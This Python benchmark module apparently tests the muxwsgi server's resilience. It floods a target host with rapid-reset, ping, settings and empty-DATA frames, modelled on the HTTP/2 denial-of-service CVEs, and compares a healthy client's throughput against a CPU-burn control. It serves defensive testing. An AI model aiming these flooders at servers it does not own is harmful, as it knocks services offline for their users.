"""Flood attackers, each in its own process (so that its CPU and the GIL are not the healthy
client's): ``python -m benchmarks.attack KIND HOST PORT SECONDS`` floods for SECONDS, opening
a new connection whenever the server closes one, and prints what it did as JSON.
``python -m benchmarks.attack --switched KIND HOST PORT`` takes turns as told on stdin:
burning one CPU (the control) or flooding (see :func:`switched`).

KIND is one of: rapid-reset (HEADERS then RESET, stream after stream: CVE-2023-44487), ping
(CVE-2019-9512), settings (CVE-2019-9515), empty (empty DATA frames on an open stream:
CVE-2019-9518).
"""

from __future__ import annotations

import json
import queue
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator

import msgpack

from muxwsgi import ErrorCode, FrameType
from muxwsgi._frames import FRAME_HEADER, MAGIC, split_frames

_HEADER = FRAME_HEADER.pack
#: The opening of every attacking connection: PREFACE and the ACK of the server's settings.
OPENING = (
    _HEADER(FrameType.PREFACE, len(MAGIC), 0, 0) + MAGIC + _HEADER(FrameType.SETTINGS, 0, 1, 0)
)
_VARS = msgpack.packb(
    ["REQUEST_METHOD", "GET", "PATH_INFO", "/hello", "QUERY_STRING", "", "SERVER_NAME", "t",
     "SERVER_PORT", "80", "SERVER_PROTOCOL", "HTTP/1.1"]
)  # fmt: skip
_CANCEL = struct.pack("<I", ErrorCode.CANCEL)
BATCH = 64


def rapid_reset() -> Iterator[tuple[bytes, int]]:
    sid = 1
    while True:
        out = []
        for _ in range(BATCH):
            out.append(_HEADER(FrameType.HEADERS, len(_VARS), 1, sid) + _VARS)
            out.append(_HEADER(FrameType.RESET, 4, 0, sid) + _CANCEL)
            sid += 2
        yield b"".join(out), BATCH


def ping() -> Iterator[tuple[bytes, int]]:
    frame = _HEADER(FrameType.PING, 8, 0, 0) + b"floodping"[:8]
    while True:
        yield frame * BATCH, BATCH


def settings() -> Iterator[tuple[bytes, int]]:
    frame = _HEADER(FrameType.SETTINGS, 6, 0, 0) + struct.pack("<HI", 0x1, 100)
    while True:
        yield frame * BATCH, BATCH


def empty() -> Iterator[tuple[bytes, int]]:
    yield _HEADER(FrameType.HEADERS, len(_VARS), 0, 1) + _VARS, 0  # a stream left open
    frame = _HEADER(FrameType.DATA, 0, 0, 1)
    while True:
        yield frame * BATCH, BATCH


def burn(seconds: float) -> dict[str, object]:
    """The control: a process that only burns one CPU for ``seconds``, as a flooder does, so
    that a healthy client's throughput under attack is compared with its throughput under
    the same CPU contention (on a small machine the flooder's own CPU is most of the effect)."""
    deadline = time.monotonic() + seconds
    spins = 0
    while time.monotonic() < deadline:
        spins += 1
    return {"kind": "burn", "spins": spins, "seconds": seconds}


KINDS: dict[str, Callable[[], Iterator[tuple[bytes, int]]]] = {
    "rapid-reset": rapid_reset,
    "ping": ping,
    "settings": settings,
    "empty": empty,
}


class Flooder:
    """Floods with one kind of frame, opening a new connection whenever the server closes one,
    until ``stop()`` says so; counts what it did."""

    def __init__(self, kind: str, address: tuple[str, int]) -> None:
        self.kind = kind
        self.address = address
        self.sent = self.connections = 0
        #: Connections the flooder closed itself (its run ended), not the server.
        self.cut = 0
        self.goaways: Counter[str] = Counter()

    def run(self, stop: Callable[[], bool]) -> None:
        while not stop():
            self.connections += 1
            received = bytearray()
            sock = socket.create_connection(self.address, timeout=5)
            closed = False
            try:
                sock.sendall(OPENING)
                sock.setblocking(False)
                for chunk, frames in KINDS[self.kind]():
                    if stop():
                        break
                    try:
                        _send_all(sock, chunk, stop)
                        self.sent += frames
                        if not _drain(sock, received):
                            closed = True  # the server closed the connection
                            break
                    except _Stopped:
                        break
                    except OSError:  # reset by the server: what it sent first is still there
                        closed = True
                        try:
                            _drain(sock, received)
                        except OSError:
                            pass
                        break
            finally:
                sock.close()
            self.cut += not closed
            frames_seen, _ = split_frames(bytes(received))
            for frame in frames_seen:
                if frame.type == FrameType.GOAWAY:
                    code = struct.unpack_from("<II", frame.payload)[1]
                    self.goaways[ErrorCode.parse(code).name] += 1

    def figures(self, seconds: float) -> dict[str, object]:
        return {"kind": self.kind, "frames": self.sent, "connections": self.connections,
                "cut": self.cut, "goaways": dict(self.goaways), "seconds": seconds}  # fmt: skip


def flood(kind: str, address: tuple[str, int], seconds: float) -> dict[str, object]:
    """Flood until ``seconds`` pass; reconnect whenever the server closes the connection."""
    deadline = time.monotonic() + seconds
    flooder = Flooder(kind, address)
    flooder.run(lambda: time.monotonic() >= deadline)
    return flooder.figures(seconds)


def switched(kind: str, address: tuple[str, int], parallel: int = 1) -> dict[str, object]:
    """Take turns as told on stdin: ``burn`` (the control: burn one CPU), ``flood`` (flood on
    ``parallel`` connections at once, each in a thread), ``stop``. Each command is
    acknowledged on stdout once the previous turn has ended (its connections closed), so that
    the caller can time its measurements. The same process, on the same CPU, is both the
    control and the attack."""
    commands: queue.SimpleQueue[str] = queue.SimpleQueue()

    def read() -> None:
        for line in sys.stdin:
            commands.put(line.strip())
        commands.put("stop")

    threading.Thread(target=read, daemon=True).start()
    flooders = [Flooder(kind, address) for _ in range(parallel)]
    flooding = 0.0
    command = commands.get()
    while command != "stop":
        print(f"ok {command}", flush=True)
        started = time.monotonic()
        if command == "flood":
            threads = [
                threading.Thread(target=f.run, args=(lambda: not commands.empty(),))
                for f in flooders
            ]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
            flooding += time.monotonic() - started
        else:
            while commands.empty():
                pass  # burn
        command = commands.get()
    figures = flooders[0].figures(flooding)
    for other in flooders[1:]:
        for key in ("frames", "connections", "cut"):
            figures[key] += other.figures(0)[key]  # type: ignore[operator]
        figures["goaways"] = dict(Counter(figures["goaways"]) + other.goaways)  # type: ignore[arg-type]
    figures["parallel"] = parallel
    return figures


class _Stopped(Exception):
    """The run ended while the server was not reading."""


def _send_all(sock: socket.socket, data: bytes, stop: Callable[[], bool]) -> None:
    view = memoryview(data)
    while view:
        try:
            view = view[sock.send(view) :]
        except BlockingIOError:
            if stop():
                raise _Stopped from None
            time.sleep(0.0005)  # the server reads no faster: that is its defence working


def _drain(sock: socket.socket, received: bytearray) -> bool:
    """Read what the server sent (a flooder that reads); False once it closed."""
    while True:
        try:
            data = sock.recv(1 << 16)
        except BlockingIOError:
            return True
        if not data:
            return False
        received += data


if __name__ == "__main__":
    if sys.argv[1] == "--switched":
        kind, host, port = sys.argv[2:5]
        parallel = int(sys.argv[5]) if len(sys.argv) > 5 else 1
        print(json.dumps(switched(kind, (host, int(port)), parallel)), flush=True)
        sys.exit()
    kind, host, port, seconds = sys.argv[1:5]
    if kind == "burn":
        result = burn(float(seconds))
    else:
        result = flood(kind, (host, int(port)), float(seconds))
    print(json.dumps(result), flush=True)
